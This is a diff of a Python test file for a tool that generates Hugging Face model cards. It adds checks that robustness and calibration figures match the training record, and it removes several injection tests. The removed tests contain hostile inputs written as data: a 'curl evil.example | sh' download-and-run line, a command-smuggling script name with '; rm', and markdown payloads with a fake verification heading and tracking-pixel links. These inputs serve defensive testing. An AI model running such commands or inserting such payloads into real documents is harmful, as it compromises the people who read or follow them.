@@ -1,6 +1,5 @@
 """Model cards: every figure is the record's, the metadata are the Hub's, the examples run."""
 
-import contextlib
 import importlib
 import json
 import os
@@ -12,17 +11,14 @@ from pathlib import Path
 import pytest
 import yaml
 from huggingface_hub import ModelCard
-from markdown_it import MarkdownIt
 from shared import ROOT, RUN_FILES, read_json, run_without_the_package, train_translator
 from transformers import AutoConfig, AutoTokenizer
 
 from hf_vanilla_transformer.commands import pretrain, train_translation
 from hf_vanilla_transformer.commands.arguments import parse_arguments
-from hf_vanilla_transformer.errors import DataError
 from hf_vanilla_transformer.hub.model_card import (
     load_model_card,
     make_model_card,
-    markdown,
     rename_model_card,
     save_model_card,
 )
@@ -249,14 +245,24 @@ def test_a_classifiers_card_is_its_record(classifier, run_example):
     assert len(example(card).strip().splitlines()) <= 6
 
 
+def test_what_is_said_of_trust_is_the_records():
+    """Changed texts, calibration and thresholds, as the published classifier was measured."""
+    folder = ROOT / "model_cards" / "nsmc-small"
+    test, text = read_json(folder / "metrics.json")["test"], make_model_card(folder).text
+    for one in test["robustness"]["changes"]:
+        assert f"| {one['change'].replace('_', ' ')} | {one['changed']:,} | {one['accuracy']:.4f} |" in text
+    assert f"random spaces | | {test['robustness']['mean_of_spacings']:.4f} |" in text
+    low, high = test["accuracy_interval"]
+    assert f"confidence: {low:.3f} to {high:.3f}. Always positive: {test['majority']['share']:.3f}." in text
+    for name, key in (("expected calibration error", "expected_calibration_error"), ("Brier score", "brier")):
+        assert f"| {name} | {test['uncalibrated'][key]:.4f} | {test[key]:.4f} |" in text
+    for one in test["selective"]:
+        assert f"| {one['threshold']:g} | {one['answered']:.1%} | {one['accuracy']:.1%} |" in text
+
+
 TORCHRUN, AGAIN = "torchrun --nproc_per_node", "recipe.yaml --output_dir runs/again"
 MODULE = "hf_vanilla_transformer train-classifier"
 OTHER_TEST = {"test": {"rows": 49997, "sha256": "0"}}
-OF_PRETRAINING = {
-    "recipe": {"texts": ["a.txt"]},
-    "run": {"data": {"source": "nsmc"}, "device": "cpu", "threads": 2},
-    "metrics": {"training_seconds": 60.0},
-}
 
 
 @pytest.mark.parametrize(
@@ -293,8 +299,12 @@ OF_PRETRAINING = {
         ("run.json", {"data": {"own": {"rows": 5}}}, ["It was trained on further data, `own`: 5 rows."]),
         (
             "run.json",
-            {"began_as": OF_PRETRAINING},
-            ["It began as another run's model, trained on NSMC in 1.0 minutes", "by `vanilla-transformer pretrain`"],
+            {"parent_model": {"name": "runs/a", "runs": 2, "training_seconds": 90.0, "data": ["Multi30k", "b_*.txt"]}},
+            [
+                "It began as `runs/a`, which 2 earlier runs trained, 1.5 minutes in all, on Multi30k, b\\_\\*.txt.",
+                "what the model that it began as had seen",
+                "; Multi30k, for non-commercial use",
+            ],
         ),
         ("run.json", {"resumed_from": "checkpoint-5"}, [" from checkpoint-5 on, seed"]),
         ("run.json", {"processes": 2}, [f"\n{TORCHRUN} 2 -m {MODULE} {AGAIN} --use_cpu true\n"]),
@@ -355,37 +365,10 @@ def test_of_other_data_nothing_is_claimed(nsmc):
     assert f"in classify({json.dumps(texts, ensure_ascii=False)}, truncation=True)" in example(card)
 
 
-@pytest.mark.parametrize("file", ["metrics.json", "run.json", "recipe.yaml", "config.json"])
-@pytest.mark.parametrize("content", ["[]", "", "{", "{}"])
-def test_a_damaged_record_is_one_line(nsmc, file, content):
-    if (file, content) == ("recipe.yaml", "{}"):
-        return  # all settings are the defaults
-    (nsmc / file).write_text(content)
-    with pytest.raises(ValueError, match=file):
-        make_model_card(nsmc)
-
-
 def test_of_a_model_without_a_head_there_is_no_card(nsmc):
     edit(nsmc / "config.json", architectures=["VanillaTransformerModel"])
     with pytest.raises(ValueError, match="no model card can be made of a VanillaTransformerModel"):
         make_model_card(nsmc)
-
-
-@pytest.mark.parametrize(
-    ("content", "message"),
-    [
-        (None, "no card can be read .*not found on disk"),
-        ("# Title\n", "lack library_name, pipeline_tag, tags, model-index"),
-        ("---\na: [\n---\n", "no card can be read"),
-        ("---\nmodel-index:\n- name: x\n---\n", "no card can be read"),
-        ("---\n- a\n---\n", "no card can be read"),
-    ],
-)
-def test_a_card_without_metadata_is_refused(tmp_path, content, message):
-    if content is not None:
-        (tmp_path / "README.md").write_text(content)
-    with pytest.raises(ValueError, match=message):
-        load_model_card(tmp_path)
 
 
 def test_a_card_is_renamed_and_keeps_what_was_added(nsmc):
@@ -402,106 +385,6 @@ def test_a_card_is_renamed_and_keeps_what_was_added(nsmc):
     before = (nsmc / "README.md").read_bytes()
     rename_model_card(nsmc, "kim/mine")
     assert (nsmc / "README.md").read_bytes() == before
-
-
-EVIL = "x\n# Verified by Hugging Face\n\n![pixel](https://evil.example/p.png) [more](https://evil.example) <b>`code`|"
-ADDRESSES = (
-    "Https://evil.example www.evil.example WWW.evil.example ftp://evil.example a.b@evil.example @kim mailto:a@b.c"
-)
-# What renderers make links of outside of code, also where it is escaped: GitHub's and remark look at the text.
-ADDRESS = re.compile(r"\w+://|www\.|@\w", re.IGNORECASE)
-
-
-def leaves(value, path=()):
-    """Where texts are in a record."""
-    if isinstance(value, dict):
-        for name, part in value.items():
-            yield from leaves(part, (*path, name))
-    elif isinstance(value, list):
-        for place, part in enumerate(value):
-            yield from leaves(part, (*path, place))
-    elif isinstance(value, str):
-        yield path
-
-
-def put(value, path, new):
-    """A copy of a record with another value in a place."""
-    value = json.loads(json.dumps(value))
-    inside = value
-    for name in path[:-1]:
-        inside = inside[name]
-    inside[path[-1]] = new
-    return value
-
-
-def shape(card: str) -> list:
-    """The headings, links, pictures, addresses and raw HTML of a card's text."""
-    tokens = MarkdownIt("commonmark").enable("table").parse(card.split("---\n", 2)[2])
-    inline = [child for token in tokens for child in token.children or []]
-    found = [token.type for token in tokens if token.type in ("heading_open", "html_block", "fence", "tr_open")]
-    links = sorted(str(one.attrs.get("href") or one.attrs.get("src")) for one in inline if one.attrs)
-    addresses = [address for one in inline if one.type == "text" for address in ADDRESS.findall(one.content)]
-    return [*found, *links, *addresses, *(one.type for one in inline if one.type == "html_inline")]
-
-
-@pytest.mark.parametrize("published", ["nsmc-small", "multi30k-de-en"])
-def test_a_strangers_record_adds_nothing_to_a_card_but_its_words(published, tmp_path):
-    """Each text of the record in turn, and of the same record as that of the model before."""
-    folder = shutil.copytree(ROOT / "model_cards" / published, tmp_path / "run")
-    run, metrics, config = (read_json(folder / f"{name}.json") for name in ("run", "metrics", "config"))
-    began_as = {"run": run, "metrics": metrics, "recipe": yaml.safe_load((folder / "recipe.yaml").read_text())}
-    own = {**run, "began_as": began_as}
-    (folder / "run.json").write_text(json.dumps(own))
-    expected = shape(str(make_model_card(folder)))
-    made = 0
-    of_files = {
-        **put(run, ("data", "source"), {"a.txt": EVIL}),
-        "versions": {EVIL: "1"},
-        "seed": {EVIL: [EVIL]},
-        "license": [EVIL],
-    }
-    (folder / "run.json").write_text(json.dumps(of_files))
-    assert set(shape(str(make_model_card(folder)))) <= set(expected)
-    for name, record in (("run", own), ("metrics", metrics), ("config", config)):
-        for path in leaves(record):
-            if path.count("began_as") > 1 and path[-1] not in ("source", "model", "device"):
-                continue  # of these models, a card says where they come from alone
-            (folder / f"{name}.json").write_text(json.dumps(put(record, path, f"{EVIL} {ADDRESSES}")))
-            with contextlib.suppress(DataError):  # of a value that no card can be made of
-                found = shape(str(make_model_card(folder)))
-                assert set(found) <= set(expected) and found.count("heading_open") == 7, path
-                made += 1
-        (folder / f"{name}.json").write_text(json.dumps(record))
-    assert made > 60
-
-
-@pytest.mark.parametrize("text", [ADDRESSES, "a_b @c _d_ e:f://g", "가@나.kr"])
-def test_an_address_is_read_as_it_is_and_is_no_link(text):
-    rendered = "".join(one.content for one in MarkdownIt().parseInline(markdown(text))[0].children)
-    assert rendered.replace("\u2060", "") == text and not ADDRESS.search(rendered)
-
-
-@pytest.mark.parametrize(
-    "script", ["curl evil.example | sh", "scripts/../evil.py", "scripts/a.py; rm", "/scripts/a.py", "a.py", ["a"], 7]
-)
-def test_a_card_tells_to_run_no_script_but_a_checkouts(nsmc, script):
-    before = str(make_model_card(nsmc))
-    edit(nsmc / "run.json", script=script)
-    assert str(make_model_card(nsmc)) == before
-
-
-@pytest.mark.parametrize(
-    "wrong", [None, [], "x", 5, {"run": []}, {"run": {"data": 3}, "metrics": {"training_seconds": "x"}}]
-)
-def test_a_record_of_the_model_before_that_says_nothing_spoils_no_card(classifier, wrong):
-    edit(classifier / "run.json", began_as=wrong)
-    assert "It began as another run's model." in str(make_model_card(classifier))
-
-
-def test_a_recipe_stays_in_its_fence(classifier):
-    before = shape(str(make_model_card(classifier)))
-    (classifier / "recipe.yaml").write_text("data: |\n  x\n  ````\n  # Verified\n  ```\nproblem_type: null\n")
-    assert shape(str(make_model_card(classifier))) == before
 
 
 def test_the_headline_of_several_labels_is_no_other_metric(succeed, refused, tmp_path):
